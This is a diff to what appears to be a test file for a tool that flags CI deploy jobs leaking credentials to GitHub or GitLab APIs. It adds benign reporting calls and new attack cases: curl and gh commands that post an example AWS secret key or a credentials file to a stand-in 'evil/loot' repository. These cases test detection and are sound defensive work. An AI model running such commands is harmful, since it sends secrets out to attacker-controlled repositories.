@@ -47,6 +47,8 @@ const high = (tool: string, destination = 'api.github.com') => [
 const curl = (...args: string[]) => ['/usr/bin/curl', ['curl', ...args]] as const;
 const gh = (...args: string[]) => ['/usr/bin/gh', ['gh', ...args]] as const;
 const glab = (...args: string[]) => ['/usr/bin/glab', ['glab', ...args]] as const;
+/** An AWS secret access key's shape: 40 characters of base64, `/` among them. */
+const AWS_SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
 const AUTH = ['-H', 'Authorization: token ghs_16C7e42F292c6912E7710c838347Ae178B4a'];
 
 /** Reporting calls a deploy job makes after reading its credentials. */
@@ -75,6 +77,11 @@ const REPORTS = [
     'https://api.bitbucket.org/2.0/repositories/acme/app/commit/3f9a0c1d/statuses/build',
   ),
   gh('api', 'repos/{owner}/{repo}/statuses/3f9a0c1d', '-f', 'state=success', '-f', 'context=ci/deploy'),
+  // A mixed-case repository and a full SHA: the endpoint is a path of names, no base64.
+  gh(
+    ...['api', 'repos/Acme/WebApp2/statuses/3f9a0c1d2e4b5a6978877665544332211ffeedcc', '-f', 'state=success'],
+    ...['-f', 'target_url=https://github.com/Acme/WebApp2/actions/runs/123456789/job/987654321'],
+  ),
   gh('api', '-X', 'POST', 'repos/acme/app/issues/12/comments', '-f', 'body=Deployed 1.4.2 to production'),
   glab('api', 'projects/:id/merge_requests/3/notes', '-f', 'body=Deployed to review app'),
 ] as const;
@@ -128,6 +135,17 @@ const ATTACKS = [
   [gh('api', 'repos/evil/loot/issues/1/comments', '--input', '/tmp/body.json'), high('gh')],
   [gh('api', 'gists', '-f', 'files[a][content]=hello'), high('gh')],
   [glab('api', 'projects/1/merge_requests/3/notes', '-F', `body=@${CREDS}`), high('glab', 'gitlab.com')],
+  // An AWS secret key after a field's `=`, or in the URL's query: `/` split its runs, the redactor's 40-character
+  // pattern takes no key after `=` (red-team review: each was quiet).
+  [
+    curl('--data-urlencode', `body=${AWS_SECRET}`, 'https://api.github.com/repos/evil/loot/issues/1/comments'),
+    high('curl'),
+  ],
+  [curl('-d', '{}', `https://api.github.com/repos/evil/loot/statuses/3f9a0c1d?d=${AWS_SECRET}`), high('curl')],
+  [gh('api', 'repos/evil/loot/issues/1/comments', '-f', `body=${AWS_SECRET}`, '--jq', '.id'), high('gh')],
+  [gh('api', 'repos/evil/loot/issues/1/comments', '--raw-field', `body=x${AWS_SECRET}`), high('gh')],
+  // gh authenticates itself: a header it is given goes wherever `--hostname` or GH_HOST says, and is checked.
+  [gh('api', 'repos/evil/loot/issues/1/comments', '-f', 'body=ok', '-H', `X-Api-Key: ${AWS_SECRET}`), high('gh')],
 ] as const;
 
 describe('a job reporting back to its forge after reading its credentials', () => {
